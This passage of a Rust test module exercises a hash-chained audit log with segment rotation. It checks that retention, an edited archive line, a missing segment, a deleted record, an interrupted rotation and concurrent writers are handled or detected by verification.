            seqs(&tail(log.path(), 7).unwrap()),
            (33..40).collect::<Vec<_>>()
        );
        // Each archive's name is the sequence number it ends before.
        let mut expected_start = 0;
        for (ends_before, archive) in &archives {
            let mut records = Vec::new();
            read_file_records(archive, &mut records, None).unwrap();
            assert_eq!(records[0].seq, expected_start);
            assert_eq!(records.last().unwrap().seq + 1, *ends_before);
            expected_start = *ends_before;
        }
    }

    #[test]
    fn retention_removes_the_oldest_segments_and_verify_starts_after_them() {
        let (_dir, log) = rotating_log(2, 40);
        assert_eq!(segments::archives(log.path()).len(), 2);
        let report = verify(log.path(), None).unwrap();
        assert!(report.is_intact(), "{report:?}");
        assert!(report.first_seq > 0);
        assert_eq!(report.records_ok, 40 - report.first_seq);
        assert_eq!(read_records(log.path()).unwrap()[0].seq, report.first_seq);
    }

    #[test]
    fn tampering_in_an_archived_segment_is_found_in_that_file() {
        let (_dir, log) = rotating_log(100, 30);
        let archives = segments::archives(log.path());
        let (_, second) = &archives[1];
        let text = fs::read_to_string(second).unwrap();
        fs::write(second, text.replacen("echo", "ecHo", 1)).unwrap();
        let broken = verify(log.path(), None).unwrap().broken.unwrap();
        // The edited first line parses; the link from the next one breaks.
        assert_eq!((&broken.file, broken.line), (second, 2), "{broken:?}");
    }

    #[test]
    fn a_missing_middle_segment_is_found() {
        let (_dir, log) = rotating_log(100, 30);
        let archives = segments::archives(log.path());
        fs::remove_file(&archives[1].1).unwrap();
        let broken = verify(log.path(), None).unwrap().broken.unwrap();
        assert_eq!(
            (&broken.file, broken.line),
            (&archives[2].1, 1),
            "{broken:?}"
        );
        assert!(broken.reason.contains("sequence number"), "{broken:?}");
    }

    #[test]
    fn a_deleted_first_record_is_found_even_after_retention() {
        let (_dir, log) = rotating_log(2, 40);
        let (_, oldest) = &segments::archives(log.path())[0];
        let text = fs::read_to_string(oldest).unwrap();
        let without_first: String = text.lines().skip(1).map(|l| format!("{l}\n")).collect();
        fs::write(oldest, without_first).unwrap();
        let broken = verify(log.path(), None).unwrap().broken.unwrap();
        assert_eq!((&broken.file, broken.line), (oldest, 1), "{broken:?}");
    }

    #[test]
    fn a_rotation_cut_short_is_continued_from_the_newest_archive() {
        let (_dir, log) = rotating_log(100, 3);
        // As if the writer died between archiving the active file and putting the new one
        // in its place.
        fs::rename(log.path(), segments::archive_path(log.path(), 3)).unwrap();
        let record = log
            .append(AuditEvent::new("after", AuditResult::Info))
            .unwrap();
        assert_eq!(record.seq, 3);
        let report = verify(log.path(), None).unwrap();
        assert!(report.is_intact(), "{report:?}");
        assert_eq!(report.records_ok, 4);
    }

    #[test]
    fn concurrent_writers_rotate_without_breaking_the_chain() {
        let dir = tempfile::tempdir().unwrap();
        let rotation = Rotation {
            max_bytes: 2000,
            keep: 1000,
        };
        std::thread::scope(|scope| {
            for writer in 0..4 {
                let home = dir.path();
                scope.spawn(move || {
                    let log = AuditLog::open_in_home(home)
                        .unwrap()
                        .with_rotation(rotation);
                    for i in 0..50 {
                        log.append(AuditEvent::new(format!("w{writer}.{i}"), AuditResult::Info))
                            .unwrap();
                    }
                });
            }
        });
        let path = audit_log_path(dir.path());
        let report = verify(&path, None).unwrap();
        assert!(report.is_intact(), "{report:?}");
        assert_eq!(report.records_ok, 200);
        assert!(segments::archives(&path).len() > 5);
        let actions: std::collections::BTreeSet<String> = read_records(&path)
            .unwrap()
            .into_iter()
            .map(|r| r.event.action)
            .collect();
        assert_eq!(actions.len(), 200);
    }
}
